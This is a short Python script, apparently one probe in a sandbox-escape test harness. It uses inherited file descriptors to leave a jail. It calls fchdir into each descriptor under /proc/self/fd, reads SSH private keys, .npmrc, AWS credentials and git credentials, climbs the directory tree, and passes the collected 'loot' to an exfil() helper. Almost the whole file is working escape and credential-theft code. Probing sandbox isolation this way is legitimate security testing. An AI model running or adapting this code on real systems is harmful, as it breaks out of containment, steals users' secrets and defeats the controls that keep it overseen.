# Inherited file descriptors: a directory opened outside the jail and passed down
# (a shell's `3<~`, a CI runner's leak) is a way out: fchdir into it and read relative
# to it, then climb with "..".
import os
from pylib import found, exfil, did, note, finish

loot = b''
for name in os.listdir('/proc/self/fd'):
    fd = int(name)
    if fd <= 2:
        continue
    try:
        os.fchdir(fd)
    except OSError:
        continue
    did('fchdir')
    for rel in ('.ssh/id_ed25519', '.npmrc', '.aws/credentials', '.git-credentials'):
        try:
            with open(rel, 'rb') as f:
                loot += f.read() + b'\n'
        except OSError as e:
            note(f'fd {fd} {rel}: {e.strerror}')
    try:
        for _ in range(6):
            os.chdir('..')
        loot += ' '.join(sorted(os.listdir('.'))).encode() + b'\n'
    except OSError:
        pass
if loot:
    found(loot)
    exfil(loot)
finish()
